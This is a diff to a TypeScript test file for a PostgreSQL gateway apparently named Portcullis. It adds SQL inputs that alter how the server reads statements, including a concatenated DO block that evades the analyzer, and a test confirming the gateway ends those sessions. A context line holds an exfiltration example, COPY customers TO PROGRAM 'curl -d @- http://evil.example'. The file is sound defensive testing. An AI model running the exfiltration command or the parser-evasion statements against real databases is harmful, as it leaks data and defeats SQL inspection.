@@ -57,6 +57,9 @@ const EXPECTED_CODES: Record<Exclude<Action, 'allow'>, readonly string[]> = {
 const AUDIT_ONLY_NOT_RUN: Record<string, string> = {
   "COPY customers TO PROGRAM 'curl -d @- http://evil.example'": 'would run curl on the test machine (tests make no outbound network calls)',
   "COPY customers TO '/tmp/customers.csv'": 'would write a file into the shared /tmp of the test machine',
+  // These run, and then the gateway ends the session: see the test at the end of this file.
+  'SET standard_conforming_strings = off': 'the server would then read SQL differently from the analyzer: the session ends (ERR_SQL_READING_CHANGED)',
+  "SET client_encoding = 'SJIS'": 'the server would then read SQL differently from the analyzer: the session ends (ERR_SQL_READING_CHANGED)',
 };
 
 /**
@@ -174,6 +177,7 @@ function summary(outcomes: Map<Entry, { sqlstate?: string; message?: string }>):
   return `${outcomes.size} entries: ${refused} refused by Portcullis, ${failedUpstream} failed in PostgreSQL, ${outcomes.size - refused - failedUpstream} succeeded`;
 }
 
+const AUDIT_ONLY_ENDS_SESSION = ['SET standard_conforming_strings = off', "SET client_encoding = 'SJIS'", "DO $$ BEGIN EXECUTE 'SET standard_' || 'conforming_strings = off'; END $$"];
 const runnable = (preset: Preset) => (e: Entry) => !(preset === 'audit-only' && e.sql in AUDIT_ONLY_NOT_RUN);
 
 // ---------------------------------------------------------------------------------------------
@@ -307,4 +311,20 @@ describe('audit-only: everything the parser understands runs, unknown statements
     const stolen = (await check.query("SELECT to_regclass('public.stolen') IS NOT NULL AS made")).rows[0].made;
     assert.equal(stolen, true, 'SELECT * INTO stolen … ran under audit-only');
   });
+});
+
+test('audit-only: a session that switches how the server reads SQL is ended, whatever it runs next', async () => {
+  const gw = gateways.get('audit-only')!;
+  for (const sql of AUDIT_ONLY_ENDS_SESSION) {
+    const c = new pg.Client(gw.pgConfig());
+    const closed = new Promise<Error>((resolve) => c.on('error', resolve));
+    await c.connect();
+    try {
+      const e = (await c.query(sql).then(() => undefined, (err: Error) => err)) ?? (await closed);
+      assert.match(e.message, /ERR_SQL_READING_CHANGED/, sql);
+      await assert.rejects(c.query('SELECT 1'), sql);
+    } finally {
+      await c.end().catch(() => undefined);
+    }
+  }
 });
